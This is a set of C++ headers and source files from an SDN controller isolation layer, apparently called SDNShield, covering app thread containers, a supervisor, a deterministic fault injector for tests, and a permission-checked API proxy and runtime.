  std::uint64_t faultCount(of::AppId app) const;
  std::uint64_t dropCount(of::AppId app) const;
  std::uint64_t deadlineOverruns(of::AppId app) const;
  /// Total apps ever quarantined.
  std::uint64_t quarantinedTotal() const;

  const SupervisorOptions& options() const { return options_; }

 private:
  struct AppRecord {
    std::shared_ptr<ThreadContainer> container;
    std::uint64_t faults = 0;
    std::uint64_t drops = 0;
    std::uint64_t overruns = 0;
    AppHealth health = AppHealth::kHealthy;
  };

  void heartbeat();
  /// Applies a state transition under the lock; returns true when the app
  /// just entered quarantine (the caller then fires the hook unlocked).
  bool transitionLocked(AppRecord& record, AppHealth target);

  SupervisorOptions options_;
  QuarantineHook hook_;
  mutable std::mutex mutex_;
  std::map<of::AppId, AppRecord> apps_;
  std::uint64_t quarantinedTotal_ = 0;

  std::thread watchdog_;
  std::mutex wakeMutex_;
  std::condition_variable wakeCv_;
  bool running_ = false;
  bool stopRequested_ = false;
};

}  // namespace sdnshield::iso
