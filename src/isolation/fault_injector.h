// Deterministic fault injection for the isolation layer. Tests and benches
// arm faults (throw / delay / queue-full) at named sites inside the API
// proxy, the KSD pool and the thread containers, so every failure mode the
// supervisor must contain — crashing, hanging and flooding apps — can be
// driven on demand instead of waiting for a real misbehaving app.
//
// The disarmed fast path is one relaxed atomic load; production code pays
// nothing for carrying the hooks.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <map>
#include <mutex>
#include <stdexcept>
#include <string>
#include <string_view>

namespace sdnshield::iso {

/// The exception type thrown by armed kThrow sites; catchable by tests to
/// distinguish injected faults from real ones.
struct FaultInjected : std::runtime_error {
  explicit FaultInjected(std::string_view site)
      : std::runtime_error("injected fault at " + std::string(site)) {}
};

/// Canonical site names (arbitrary strings are accepted; these are the ones
/// wired into the runtime).
namespace sites {
inline constexpr std::string_view kContainerTask = "container.task";
inline constexpr std::string_view kContainerPost = "container.post";
inline constexpr std::string_view kKsdCall = "ksd.call";
inline constexpr std::string_view kKsdQueue = "ksd.queue";
inline constexpr std::string_view kKsdTask = "ksd.task";
// App-market lifecycle sites (src/market): fired before the named step so an
// armed kThrow proves the step is transactional (no partial grants,
// containers or journal records survive an abort).
inline constexpr std::string_view kMarketReconcile = "market.reconcile";
inline constexpr std::string_view kMarketSwap = "market.swap";
inline constexpr std::string_view kMarketJournal = "market.journal";
}  // namespace sites

class FaultInjector {
 public:
  enum class Fault {
    kThrow,      ///< inject() throws FaultInjected.
    kDelay,      ///< inject() sleeps for the armed delay (simulated hang).
    kQueueFull,  ///< injectQueueFull() reports the queue as saturated.
  };

  /// Process-wide registry (leaked on purpose so detached worker threads can
  /// touch it safely during shutdown).
  static FaultInjector& instance();

  /// Arms @p site. @p times limits how often the fault fires (-1 = until
  /// disarmed); an exhausted site disarms itself.
  void arm(std::string_view site, Fault fault, int times = -1,
           std::chrono::milliseconds delay = std::chrono::milliseconds{50});
  /// Arms @p site probabilistically: each eligible visit draws from a
  /// per-site splitmix64 stream (seeded by @p seed mixed with the site name,
  /// so distinct sites sharing one campaign seed see independent streams)
  /// and fires with probability @p p. Fully deterministic: the same seed
  /// and the same visit sequence produce the same firing pattern. @p times
  /// still bounds total firings (-1 = until disarmed).
  void armProbabilistic(
      std::string_view site, Fault fault, double p, std::uint64_t seed,
      int times = -1,
      std::chrono::milliseconds delay = std::chrono::milliseconds{50});
  /// Arms @p site for a fire-count window: the first @p skip eligible visits
  /// pass through unharmed, then the next @p times visits fire (-1 = every
  /// visit after the window opens, until disarmed).
  void armWindow(std::string_view site, Fault fault, std::uint64_t skip,
                 int times = -1,
                 std::chrono::milliseconds delay = std::chrono::milliseconds{50});
  void disarm(std::string_view site);
  /// Disarms every site and clears the fired counters.
  void reset();

  /// How many times @p site has actually fired since the last reset().
  std::uint64_t fired(std::string_view site) const;

  /// Site hook for kThrow / kDelay faults. No-op unless armed. Under a
  /// model-checking run (isolation/executor.h) every site is also a
  /// schedule point: the virtual scheduler parks the calling scenario
  /// thread here *before* the armed-fault check, so the same sites drive
  /// both fault injection and interleaving exploration.
  void inject(std::string_view site);
  /// Site hook for kQueueFull faults: true means "behave as if the queue
  /// were full". No-op (false) unless armed. Also a schedule point (see
  /// inject()).
  bool injectQueueFull(std::string_view site);

 private:
  struct Armed {
    Fault fault = Fault::kThrow;
    int remaining = -1;
    std::chrono::milliseconds delay{50};
    // Fire-count window: eligible visits still to skip before firing starts.
    std::uint64_t skip = 0;
    // Probabilistic mode: fire when the next splitmix64 draw lands below
    // probability; rng advances on every eligible visit (fired or not) so
    // the stream position — and thus the firing pattern — is a pure
    // function of (seed, visit index).
    bool probabilistic = false;
    double probability = 1.0;
    std::uint64_t rng = 0;
  };

  FaultInjector() = default;

  /// Consumes one firing of @p site if armed with a fault in @p matchQueueFull
  /// mode; fills @p out on success.
  bool take(std::string_view site, bool matchQueueFull, Armed* out);

  std::atomic<int> armedCount_{0};
  mutable std::mutex mutex_;
  std::map<std::string, Armed, std::less<>> armed_;
  std::map<std::string, std::uint64_t, std::less<>> fired_;
};

/// Tag argument selecting probabilistic arming in ScopedFault.
struct FireProbability {
  double p = 0.0;
  std::uint64_t seed = 0;
};

/// Tag argument selecting fire-count-window arming in ScopedFault.
struct FireWindow {
  std::uint64_t skip = 0;
  int times = -1;
};

/// RAII arming: arms @p site for the enclosing scope and disarms it on
/// exit, so a test that throws (or an EXPECT that returns early) can never
/// leak an armed fault into the next test case. Prefer this over bare
/// arm()/disarm() pairs in tests.
class ScopedFault {
 public:
  explicit ScopedFault(
      std::string_view site, FaultInjector::Fault fault, int times = -1,
      std::chrono::milliseconds delay = std::chrono::milliseconds{50})
      : site_(site) {
    FaultInjector::instance().arm(site_, fault, times, delay);
  }
  ScopedFault(std::string_view site, FaultInjector::Fault fault,
              FireProbability prob, int times = -1,
              std::chrono::milliseconds delay = std::chrono::milliseconds{50})
      : site_(site) {
    FaultInjector::instance().armProbabilistic(site_, fault, prob.p, prob.seed,
                                               times, delay);
  }
  ScopedFault(std::string_view site, FaultInjector::Fault fault,
              FireWindow window,
              std::chrono::milliseconds delay = std::chrono::milliseconds{50})
      : site_(site) {
    FaultInjector::instance().armWindow(site_, fault, window.skip,
                                        window.times, delay);
  }
  ~ScopedFault() { FaultInjector::instance().disarm(site_); }

  ScopedFault(const ScopedFault&) = delete;
  ScopedFault& operator=(const ScopedFault&) = delete;

 private:
  std::string site_;
};

}  // namespace sdnshield::iso
