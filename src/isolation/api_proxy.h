// The SDNShield deployment glue (paper Figure 4):
//  * ShieldedApi — the auto-generated-wrapper analogue: every northbound
//    call marshals through the channel to a Kernel Service Deputy, which
//    permission-checks (with ownership / provenance / rule-count context
//    filled in), applies abstract-topology translation, and executes the
//    kernel operation on the app's behalf;
//  * ShieldedContext — the app-side AppContext whose event subscriptions are
//    themselves checked and whose handlers run on the app's thread container
//    (with payload stripping and per-event filtering);
//  * ShieldRuntime — app lifecycle: installs compiled permissions, starts
//    containers, runs init in the sandbox;
//  * BaselineRuntime — the original monolithic deployment for comparison.
#pragma once

#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <unordered_set>
#include <vector>

#include "controller/controller.h"
#include "controller/services.h"
#include "core/engine/permission_engine.h"
#include "isolation/host_system.h"
#include "isolation/ksd.h"
#include "isolation/reference_monitor.h"
#include "isolation/supervisor.h"
#include "isolation/thread_container.h"
#include "net/virtual_topology.h"

namespace sdnshield::iso {

/// Datapath id apps use to address the virtual big switch.
inline constexpr of::DatapathId kVirtualDpid = 0xbf00000000000001ULL;

/// Bounded memory of packets recently delivered to an app as packet-ins;
/// backs the FROM_PKT_IN provenance check on packet-outs.
class RecentPacketIns {
 public:
  explicit RecentPacketIns(std::size_t capacity = 1024)
      : capacity_(capacity) {}

  void remember(const of::Packet& packet);
  bool seen(const of::Packet& packet) const;

 private:
  static std::size_t hashOf(const of::Packet& packet);

  mutable std::mutex mutex_;
  std::size_t capacity_;
  std::deque<std::size_t> order_;
  std::unordered_multiset<std::size_t> hashes_;
};

class ShieldRuntime;

class ShieldedApi final : public ctrl::NorthboundApi {
 public:
  ShieldedApi(ShieldRuntime& runtime, of::AppId app,
              std::shared_ptr<RecentPacketIns> recent)
      : runtime_(runtime), app_(app), recent_(std::move(recent)) {}

  ctrl::ApiResult insertFlow(of::DatapathId dpid,
                             const of::FlowMod& mod) override;
  ctrl::ApiResult insertFlows(of::DatapathId dpid,
                              const std::vector<of::FlowMod>& mods) override;
  ctrl::ApiResult deleteFlow(of::DatapathId dpid, const of::FlowMatch& match,
                             bool strict, std::uint16_t priority) override;
  ctrl::ApiResult commitFlowTransaction(
      const std::vector<std::pair<of::DatapathId, of::FlowMod>>& mods) override;
  ctrl::ApiFuture<ctrl::ApiResult> insertFlowAsync(
      of::DatapathId dpid, const of::FlowMod& mod) override;
  ctrl::ApiFuture<ctrl::ApiResult> sendPacketOutAsync(
      const of::PacketOut& packetOut) override;
  ctrl::ApiResponse<std::vector<of::FlowEntry>> readFlowTable(
      of::DatapathId dpid) override;
  ctrl::ApiResponse<net::Topology> readTopology() override;
  ctrl::ApiResponse<of::StatsReply> readStatistics(
      const of::StatsRequest& request) override;
  ctrl::ApiResult sendPacketOut(const of::PacketOut& packetOut) override;
  ctrl::ApiResult publishData(const std::string& topic,
                              const std::string& payload) override;
  ctrl::ApiResponse<ctrl::StatsReport> statsReport() override;
  ctrl::ApiResult updatePolicy(const std::string& policyText) override;
  ctrl::ApiResult revokeApp(of::AppId app, const std::string& reason) override;
  ctrl::ApiResponse<std::string> marketReport() override;

 private:
  friend class ShieldRuntime;

  /// Deputy-side bodies (run with kernel privilege on a KSD thread).
  ctrl::ApiResult doInsertFlow(of::DatapathId dpid, const of::FlowMod& mod);
  /// Batched deputy body: the permission context (compiled program, base
  /// rule count) is resolved once for the whole batch, then admitted mods
  /// go to the kernel as one vectorized insert.
  ctrl::ApiResult doInsertFlows(of::DatapathId dpid,
                                const std::vector<of::FlowMod>& mods);
  ctrl::ApiResult doSendPacketOut(const of::PacketOut& packetOut);

  ShieldRuntime& runtime_;
  of::AppId app_;
  std::shared_ptr<RecentPacketIns> recent_;
};

class ShieldedContext final : public ctrl::AppContext {
 public:
  ShieldedContext(ShieldRuntime& runtime, of::AppId app,
                  std::shared_ptr<ThreadContainer> container);

  of::AppId appId() const override { return app_; }
  ctrl::NorthboundApi& api() override { return api_; }
  ctrl::HostServices& host() override;

  ctrl::ApiResponse<ctrl::SubscriptionId> subscribePacketIn(
      std::function<void(const ctrl::PacketInEvent&)> handler) override;
  ctrl::ApiResponse<ctrl::SubscriptionId> subscribePacketInInterceptor(
      std::function<bool(const ctrl::PacketInEvent&)> handler) override;
  ctrl::ApiResponse<ctrl::SubscriptionId> subscribeFlowEvents(
      std::function<void(const ctrl::FlowEvent&)> handler) override;
  ctrl::ApiResponse<ctrl::SubscriptionId> subscribeTopologyEvents(
      std::function<void(const ctrl::TopologyEvent&)> handler) override;
  ctrl::ApiResponse<ctrl::SubscriptionId> subscribeErrorEvents(
      std::function<void(const ctrl::ErrorEvent&)> handler) override;
  ctrl::ApiResponse<ctrl::SubscriptionId> subscribeData(
      const std::string& topic,
      std::function<void(const ctrl::DataUpdateEvent&)> handler) override;
  ctrl::ApiResult unsubscribe(ctrl::SubscriptionId id) override;

 private:
  ShieldRuntime& runtime_;
  of::AppId app_;
  std::shared_ptr<ThreadContainer> container_;
  std::shared_ptr<RecentPacketIns> recent_;
  ShieldedApi api_;
};

struct ShieldOptions {
  std::size_t ksdThreads = 2;
  /// Deadline for one app-blocking API call through the deputy channel; a
  /// hung deputy surfaces as a failed ApiResult, never an indefinite stall.
  std::chrono::milliseconds ksdCallTimeout = KsdPool::kDefaultCallTimeout;
  /// Per-app event/task queue bound (backpressure horizon).
  std::size_t appQueueCapacity = 4096;
  /// Max asynchronous API calls one app may keep in flight (the *Async
  /// northbound calls); the next submission past the window blocks up to
  /// ksdCallTimeout, then fails with kQueueFull.
  std::size_t asyncWindow = 32;
  /// Max queued requests a deputy drains per wakeup (KsdPool batching).
  std::size_t ksdBatchMax = KsdPool::kDefaultBatchMax;
  /// Starts the supervision watchdog (health states + hang detection).
  bool supervise = true;
  SupervisorOptions supervisor;
};

class ShieldRuntime {
 public:
  explicit ShieldRuntime(ctrl::Controller& controller,
                         ShieldOptions options = {});
  ~ShieldRuntime();

  ShieldRuntime(const ShieldRuntime&) = delete;
  ShieldRuntime& operator=(const ShieldRuntime&) = delete;

  /// Loads an app under the given (reconciled) permissions: installs the
  /// compiled permissions, starts the thread container and runs init inside
  /// the sandbox. Returns the assigned app id.
  of::AppId loadApp(std::shared_ptr<ctrl::App> app,
                    const perm::PermissionSet& granted);

  /// Loading-time access control (§VIII-B, the OSGi-security analogue):
  /// compares the app's *requested* manifest against the granted
  /// permissions before wiring anything up, so wholly-ungranted API
  /// families are known to be statically unavailable (no runtime checking
  /// ever needed for them).
  struct LoadReport {
    of::AppId appId = 0;
    /// Tokens the manifest requested that the grant lacks entirely.
    std::vector<perm::Token> deniedTokens;
    /// Tokens granted but narrower than requested (runtime filters apply).
    std::vector<perm::Token> narrowedTokens;
    bool fullyGranted() const {
      return deniedTokens.empty() && narrowedTokens.empty();
    }
    std::string toString() const;
  };

  /// Parses the manifest shipped inside the app, performs the loading-time
  /// check against @p granted, then loads the app (denied tokens stay
  /// denied — the report is for the administrator's eyes).
  LoadReport loadAppChecked(std::shared_ptr<ctrl::App> app,
                            const perm::PermissionSet& granted);
  void unloadApp(of::AppId app);
  void shutdown();

  /// Loads an app under a caller-chosen id (journal replay: a recovered
  /// market must reproduce the pre-crash id assignment). Throws
  /// std::invalid_argument if the id is 0 or already loaded.
  void loadAppAs(of::AppId id, std::shared_ptr<ctrl::App> app,
                 const perm::PermissionSet& granted);

  /// Live upgrade: replaces the app behind @p id with @p next under
  /// @p granted, keeping the id (and thus flow ownership and audit
  /// lineage). The old container is stopped (join — host-level call only,
  /// never from a deputy thread), its subscriptions removed, and the new
  /// grant is published in ONE engine install — readers observe either the
  /// old or the new permission set, never neither. Throws
  /// std::invalid_argument for unknown ids.
  void swapApp(of::AppId id, std::shared_ptr<ctrl::App> next,
               const perm::PermissionSet& granted);

  /// Frees retired (unloaded/swapped-out) app shells. Only safe when no app
  /// code still holds the AppContext pointers handed out at their init —
  /// i.e. from tests and teardown paths, not mid-flight.
  void reclaimRetired();

  // Leak-detection surfaces (install/uninstall cycles must return these to
  // baseline; see the market leak test).
  std::size_t loadedAppCount() const;
  std::size_t windowCount() const;
  std::size_t retiredCount() const;

  /// Supervisor action (also callable by the administrator): removes the
  /// app's subscriptions, uninstalls its permissions and seals its thread
  /// container (pending tasks discarded). Sibling apps are untouched. Safe
  /// to invoke from the watchdog, the dispatcher, or the app's own thread.
  void quarantineApp(of::AppId app, const std::string& reason);

  ctrl::Controller& controller() { return controller_; }
  engine::PermissionEngine& engine() { return engine_; }
  KsdPool& ksd() { return ksd_; }
  Supervisor& supervisor() { return supervisor_; }
  const ShieldOptions& options() const { return options_; }
  HostSystem& hostSystem() { return host_; }
  ReferenceMonitor& referenceMonitor() { return monitor_; }
  std::shared_ptr<ThreadContainer> container(of::AppId app) const;

  /// The app's bounded async-call window (created on first use). Quarantine
  /// and unload drop the registry slot, but futures already in flight keep
  /// the window alive through their RAII slot guards and still resolve.
  std::shared_ptr<InFlightWindow> inFlightWindow(of::AppId app);

  /// True once the app's container was sealed by quarantineApp.
  bool isQuarantined(of::AppId app) const;

  /// Builds the virtual big switch for an app whose visible_topology grant
  /// carries a VIRTUAL filter (nullopt otherwise).
  std::optional<net::VirtualTopology> virtualTopologyFor(of::AppId app) const;

 private:
  struct LoadedApp {
    std::shared_ptr<ctrl::App> app;
    std::shared_ptr<ThreadContainer> container;
    std::shared_ptr<ShieldedContext> context;
  };

  of::AppId loadAppImpl(std::optional<of::AppId> requestedId,
                        std::shared_ptr<ctrl::App> app,
                        const perm::PermissionSet& granted);

  ctrl::Controller& controller_;
  ShieldOptions options_;
  engine::PermissionEngine engine_;
  KsdPool ksd_;
  Supervisor supervisor_;
  HostSystem host_;
  ReferenceMonitor monitor_;
  mutable std::mutex mutex_;
  std::map<of::AppId, LoadedApp> apps_;
  std::map<of::AppId, std::shared_ptr<InFlightWindow>> windows_;
  /// Unloaded/shut-down apps are parked here instead of destroyed: app code
  /// holds raw AppContext pointers handed out at init, and calls through
  /// them after shutdown must throw (the KSD is stopped), not fault on a
  /// freed context. Freed when the runtime itself is destroyed.
  std::vector<LoadedApp> retired_;
  of::AppId nextAppId_ = 1;
};

/// The original monolithic deployment: direct API, inline event dispatch,
/// unmediated host access — the baseline of Figures 6-8.
class BaselineRuntime {
 public:
  explicit BaselineRuntime(ctrl::Controller& controller)
      : controller_(controller), monitor_(host_, nullptr) {}

  of::AppId loadApp(std::shared_ptr<ctrl::App> app);

  ctrl::Controller& controller() { return controller_; }
  HostSystem& hostSystem() { return host_; }

 private:
  struct LoadedApp {
    std::shared_ptr<ctrl::App> app;
    std::unique_ptr<ctrl::DirectContext> context;
  };

  ctrl::Controller& controller_;
  HostSystem host_;
  ReferenceMonitor monitor_;
  std::vector<LoadedApp> apps_;
  of::AppId nextAppId_ = 1;
};

}  // namespace sdnshield::iso
