#include "isolation/fault_injector.h"

#include <thread>

#include "isolation/executor.h"

namespace sdnshield::iso {

FaultInjector& FaultInjector::instance() {
  // Leaked: detached (abandoned) container threads may consult the injector
  // arbitrarily late; a static-storage instance could be destroyed first.
  static FaultInjector* injector = new FaultInjector;
  return *injector;
}

void FaultInjector::arm(std::string_view site, Fault fault, int times,
                        std::chrono::milliseconds delay) {
  if (times == 0) return;
  std::lock_guard lock(mutex_);
  armed_.insert_or_assign(std::string(site), Armed{fault, times, delay});
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::disarm(std::string_view site) {
  std::lock_guard lock(mutex_);
  auto it = armed_.find(site);
  if (it == armed_.end()) return;
  armed_.erase(it);
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::reset() {
  std::lock_guard lock(mutex_);
  armed_.clear();
  fired_.clear();
  armedCount_.store(0, std::memory_order_relaxed);
}

std::uint64_t FaultInjector::fired(std::string_view site) const {
  std::lock_guard lock(mutex_);
  auto it = fired_.find(site);
  return it == fired_.end() ? 0 : it->second;
}

bool FaultInjector::take(std::string_view site, bool matchQueueFull,
                         Armed* out) {
  std::lock_guard lock(mutex_);
  auto it = armed_.find(site);
  if (it == armed_.end()) return false;
  if ((it->second.fault == Fault::kQueueFull) != matchQueueFull) return false;
  *out = it->second;
  auto firedIt = fired_.find(site);
  if (firedIt == fired_.end()) {
    fired_.emplace(std::string(site), 1);
  } else {
    ++firedIt->second;
  }
  if (it->second.remaining > 0 && --it->second.remaining == 0) {
    armed_.erase(it);
    armedCount_.store(static_cast<int>(armed_.size()),
                      std::memory_order_relaxed);
  }
  return true;
}

void FaultInjector::inject(std::string_view site) {
  // Schedule point first: the explorer decides who runs (and whether this
  // resume crashes) before the armed-fault fast path is consulted.
  if (VirtualExecutor* executor = virtualExecutor()) {
    executor->schedulePoint(site);
  }
  if (armedCount_.load(std::memory_order_relaxed) == 0) return;
  Armed armed;
  if (!take(site, /*matchQueueFull=*/false, &armed)) return;
  if (armed.fault == Fault::kThrow) throw FaultInjected(site);
  std::this_thread::sleep_for(armed.delay);
}

bool FaultInjector::injectQueueFull(std::string_view site) {
  if (VirtualExecutor* executor = virtualExecutor()) {
    executor->schedulePoint(site);
  }
  if (armedCount_.load(std::memory_order_relaxed) == 0) return false;
  Armed armed;
  return take(site, /*matchQueueFull=*/true, &armed);
}

}  // namespace sdnshield::iso
