#include "isolation/fault_injector.h"

#include <thread>

#include "isolation/executor.h"

namespace sdnshield::iso {

namespace {

// splitmix64 (Vigna): tiny, statistically solid, and trivially seedable —
// the per-site fault streams only need reproducibility, not crypto.
std::uint64_t splitmix64(std::uint64_t& state) {
  std::uint64_t z = (state += 0x9e3779b97f4a7c15ULL);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

// FNV-1a over the site name: mixes the campaign seed into a per-site stream
// so "container.task" and "ksd.call" armed with one seed fire independently.
std::uint64_t hashSite(std::string_view site) {
  std::uint64_t h = 1469598103934665603ULL;
  for (char c : site) {
    h ^= static_cast<unsigned char>(c);
    h *= 1099511628211ULL;
  }
  return h;
}

}  // namespace

FaultInjector& FaultInjector::instance() {
  // Leaked: detached (abandoned) container threads may consult the injector
  // arbitrarily late; a static-storage instance could be destroyed first.
  static FaultInjector* injector = new FaultInjector;
  return *injector;
}

void FaultInjector::arm(std::string_view site, Fault fault, int times,
                        std::chrono::milliseconds delay) {
  if (times == 0) return;
  std::lock_guard lock(mutex_);
  armed_.insert_or_assign(std::string(site), Armed{fault, times, delay});
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::armProbabilistic(std::string_view site, Fault fault,
                                     double p, std::uint64_t seed, int times,
                                     std::chrono::milliseconds delay) {
  if (times == 0 || p <= 0.0) return;
  Armed armed{fault, times, delay};
  armed.probabilistic = true;
  armed.probability = p;
  armed.rng = seed ^ hashSite(site);
  std::lock_guard lock(mutex_);
  armed_.insert_or_assign(std::string(site), armed);
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::armWindow(std::string_view site, Fault fault,
                              std::uint64_t skip, int times,
                              std::chrono::milliseconds delay) {
  if (times == 0) return;
  Armed armed{fault, times, delay};
  armed.skip = skip;
  std::lock_guard lock(mutex_);
  armed_.insert_or_assign(std::string(site), armed);
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::disarm(std::string_view site) {
  std::lock_guard lock(mutex_);
  auto it = armed_.find(site);
  if (it == armed_.end()) return;
  armed_.erase(it);
  armedCount_.store(static_cast<int>(armed_.size()),
                    std::memory_order_relaxed);
}

void FaultInjector::reset() {
  std::lock_guard lock(mutex_);
  armed_.clear();
  fired_.clear();
  armedCount_.store(0, std::memory_order_relaxed);
}

std::uint64_t FaultInjector::fired(std::string_view site) const {
  std::lock_guard lock(mutex_);
  auto it = fired_.find(site);
  return it == fired_.end() ? 0 : it->second;
}

bool FaultInjector::take(std::string_view site, bool matchQueueFull,
                         Armed* out) {
  std::lock_guard lock(mutex_);
  auto it = armed_.find(site);
  if (it == armed_.end()) return false;
  if ((it->second.fault == Fault::kQueueFull) != matchQueueFull) return false;
  if (it->second.skip > 0) {
    --it->second.skip;
    return false;
  }
  if (it->second.probabilistic) {
    // Advance the stream on EVERY eligible visit so the firing pattern is a
    // pure function of (seed, visit index), independent of which visits
    // happened to fire before.
    std::uint64_t draw = splitmix64(it->second.rng);
    double u = static_cast<double>(draw >> 11) * 0x1.0p-53;
    if (u >= it->second.probability) return false;
  }
  *out = it->second;
  auto firedIt = fired_.find(site);
  if (firedIt == fired_.end()) {
    fired_.emplace(std::string(site), 1);
  } else {
    ++firedIt->second;
  }
  if (it->second.remaining > 0 && --it->second.remaining == 0) {
    armed_.erase(it);
    armedCount_.store(static_cast<int>(armed_.size()),
                      std::memory_order_relaxed);
  }
  return true;
}

void FaultInjector::inject(std::string_view site) {
  // Schedule point first: the explorer decides who runs (and whether this
  // resume crashes) before the armed-fault fast path is consulted.
  if (VirtualExecutor* executor = virtualExecutor()) {
    executor->schedulePoint(site);
  }
  if (armedCount_.load(std::memory_order_relaxed) == 0) return;
  Armed armed;
  if (!take(site, /*matchQueueFull=*/false, &armed)) return;
  if (armed.fault == Fault::kThrow) throw FaultInjected(site);
  std::this_thread::sleep_for(armed.delay);
}

bool FaultInjector::injectQueueFull(std::string_view site) {
  if (VirtualExecutor* executor = virtualExecutor()) {
    executor->schedulePoint(site);
  }
  if (armedCount_.load(std::memory_order_relaxed) == 0) return false;
  Armed armed;
  return take(site, /*matchQueueFull=*/true, &armed);
}

}  // namespace sdnshield::iso
