// Thread containers: the unit of sandboxing (paper §VI-A). App code runs on
// an unprivileged thread whose ambient identity is the app id; the trusted
// kernel runs on privileged threads (identity kKernelAppId). Identity is
// thread-local and inherited by threads an app spawns, mirroring the Java
// design where children inherit the parent's protection domain.
#pragma once

#include <atomic>
#include <functional>
#include <string>
#include <thread>
#include <vector>

#include "isolation/channel.h"
#include "of/flow_mod.h"

namespace sdnshield::iso {

/// Ambient per-thread principal. Kernel threads (and the main thread) carry
/// kKernelAppId.
of::AppId currentAppId();

/// RAII: runs the enclosing scope under @p app's identity. Used by thread
/// containers; tests may use it to simulate call contexts.
class ScopedIdentity {
 public:
  explicit ScopedIdentity(of::AppId app);
  ~ScopedIdentity();

  ScopedIdentity(const ScopedIdentity&) = delete;
  ScopedIdentity& operator=(const ScopedIdentity&) = delete;

 private:
  of::AppId previous_;
};

/// Spawns a thread inheriting the *calling* thread's identity — the rule
/// that stops an app laundering privileges through a fresh thread.
std::thread spawnInheriting(std::function<void()> body);

/// A single app's sandboxed execution context: one worker thread with a task
/// queue. Event handlers and init code are posted here; everything posted
/// runs under the app's identity.
class ThreadContainer {
 public:
  ThreadContainer(of::AppId app, std::string name);
  ~ThreadContainer();

  ThreadContainer(const ThreadContainer&) = delete;
  ThreadContainer& operator=(const ThreadContainer&) = delete;

  void start();
  /// Closes the queue, drains remaining tasks and joins.
  void stop();

  /// Enqueues a task for the app thread. Returns false after stop().
  bool post(std::function<void()> task);

  /// Posts and blocks until the task has run (used for app init).
  void postAndWait(std::function<void()> task);

  of::AppId appId() const { return app_; }
  const std::string& name() const { return name_; }
  std::size_t pendingTasks() const { return queue_.size(); }
  std::uint64_t executedTasks() const { return executed_.load(); }

 private:
  void run();

  of::AppId app_;
  std::string name_;
  BoundedMpmcQueue<std::function<void()>> queue_;
  std::thread thread_;
  std::atomic<std::uint64_t> executed_{0};
  bool started_ = false;
};

}  // namespace sdnshield::iso
