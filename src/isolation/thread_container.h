// Thread containers: the unit of sandboxing (paper §VI-A). App code runs on
// an unprivileged thread whose ambient identity is the app id; the trusted
// kernel runs on privileged threads (identity kKernelAppId). Identity is
// thread-local and inherited by threads an app spawns, mirroring the Java
// design where children inherit the parent's protection domain.
//
// Fault containment: a task that throws is caught, counted and reported to
// the registered fault handler instead of escaping run() and terminating
// the process. A container whose task hangs can be quarantined (queue
// closed, pending tasks discarded) and its thread abandoned — the worker
// owns the container state via shared_ptr, so detaching is memory-safe.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <exception>
#include <functional>
#include <memory>
#include <string>
#include <thread>

#include "isolation/channel.h"
#include "of/flow_mod.h"

namespace sdnshield::iso {

/// Ambient per-thread principal. Kernel threads (and the main thread) carry
/// kKernelAppId.
of::AppId currentAppId();

/// Human-readable message for an in-flight exception (fault reporting).
std::string describeException(std::exception_ptr error);

/// RAII: runs the enclosing scope under @p app's identity. Used by thread
/// containers; tests may use it to simulate call contexts.
class ScopedIdentity {
 public:
  explicit ScopedIdentity(of::AppId app);
  ~ScopedIdentity();

  ScopedIdentity(const ScopedIdentity&) = delete;
  ScopedIdentity& operator=(const ScopedIdentity&) = delete;

 private:
  of::AppId previous_;
};

/// Spawns a thread inheriting the *calling* thread's identity — the rule
/// that stops an app laundering privileges through a fresh thread.
std::thread spawnInheriting(std::function<void()> body);

/// A single app's sandboxed execution context: one worker thread with a task
/// queue. Event handlers and init code are posted here; everything posted
/// runs under the app's identity.
class ThreadContainer {
 public:
  using Clock = std::chrono::steady_clock;
  /// Invoked on the container thread after a task throws. Must not throw.
  using FaultHandler =
      std::function<void(std::exception_ptr error, const std::string& what)>;

  static constexpr std::chrono::milliseconds kDefaultWaitDeadline{60000};

  ThreadContainer(of::AppId app, std::string name,
                  std::size_t queueCapacity = 4096);
  ~ThreadContainer();

  ThreadContainer(const ThreadContainer&) = delete;
  ThreadContainer& operator=(const ThreadContainer&) = delete;

  /// Registers the fault sink (supervision wiring). Call before start().
  void setFaultHandler(FaultHandler handler);

  void start();
  /// Closes the queue, drains remaining tasks and joins. If the worker is
  /// stuck in a task beyond @p joinTimeout it is abandoned (detached) so the
  /// caller is never wedged on a hung app; the shared state keeps the
  /// detached thread memory-safe.
  void stop(std::chrono::milliseconds joinTimeout = kDefaultWaitDeadline);
  /// Supervisor action: closes the queue and *discards* pending tasks
  /// (waiters see broken promises). Does not join — safe to call from any
  /// thread, including the container's own.
  void quarantine();

  /// Enqueues a task for the app thread. Returns false after stop().
  bool post(std::function<void()> task);
  /// Non-blocking post used by the event dispatcher: never stalls the
  /// dispatch path. A full or closed queue counts a dropped task.
  bool tryPost(std::function<void()> task);

  /// Posts and blocks until the task has run (used for app init). Returns
  /// false if the task could not be posted, was discarded by quarantine, or
  /// did not finish within @p timeout; rethrows the task's exception.
  bool postAndWait(std::function<void()> task,
                   std::chrono::milliseconds timeout = kDefaultWaitDeadline);

  of::AppId appId() const { return state_->app; }
  const std::string& name() const { return state_->name; }
  std::size_t pendingTasks() const { return state_->queue.size(); }
  std::uint64_t executedTasks() const { return state_->executed.load(); }
  std::uint64_t faultCount() const { return state_->faults.load(); }
  std::uint64_t droppedTasks() const { return state_->dropped.load(); }
  bool quarantined() const { return state_->quarantined.load(); }

  /// How long the currently running task has been executing (zero when
  /// idle). The watchdog compares this against the task deadline.
  Clock::duration currentTaskRuntime() const;

 private:
  /// Everything the worker thread touches, owned jointly by the container
  /// and the thread body so an abandoned (detached) worker never dangles.
  struct State {
    State(of::AppId app, std::string name, std::size_t queueCapacity)
        : app(app), name(std::move(name)), queue(queueCapacity) {}

    of::AppId app;
    std::string name;
